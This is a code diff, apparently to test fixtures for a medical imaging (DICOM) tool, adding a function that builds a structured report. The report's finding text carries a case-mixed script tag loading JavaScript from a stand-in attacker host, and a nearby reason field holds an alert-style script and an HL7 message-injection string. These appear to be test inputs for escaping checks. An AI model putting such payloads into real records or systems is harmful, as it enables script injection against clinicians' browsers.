@@ -182,6 +182,28 @@ def script() -> int:
     return 0
 
 
+def report_script() -> int:
+    """Return a structured report whose text a browser would run."""
+    from pydicom.dataset import Dataset
+
+    def code(value: str, meaning: str) -> list[Dataset]:
+        item = Dataset()
+        item.CodeValue, item.CodingSchemeDesignator, item.CodeMeaning = value, "DCM", meaning
+        return [item]
+
+    text = Dataset()
+    text.RelationshipType, text.ValueType = "CONTAINS", "TEXT"
+    text.ConceptNameCodeSequence = code("121071", "Finding")
+    text.TextValue = "no bleed<ScRiPt src=//evil.example/x.js></script>"
+    _capture("one.dcm", SOPClassUID="1.2.840.10008.5.1.4.1.1.88.11", Modality="SR",
+             ValueType="CONTAINER", ContinuityOfContent="SEPARATE", CompletionFlag="COMPLETE",
+             VerificationFlag="UNVERIFIED", ContentDate="20260316", ContentTime="073000",
+             ConceptNameCodeSequence=code("126000", "Imaging Measurement Report"),
+             ContentSequence=[text])  # fmt: skip
+    say()
+    return 0
+
+
 def not_analysed_script() -> int:
     say(outcome="not_analysed", reason="<script>alert(1)</script>|^~\\&\r\nMSH|^~", findings=[])
     return 0
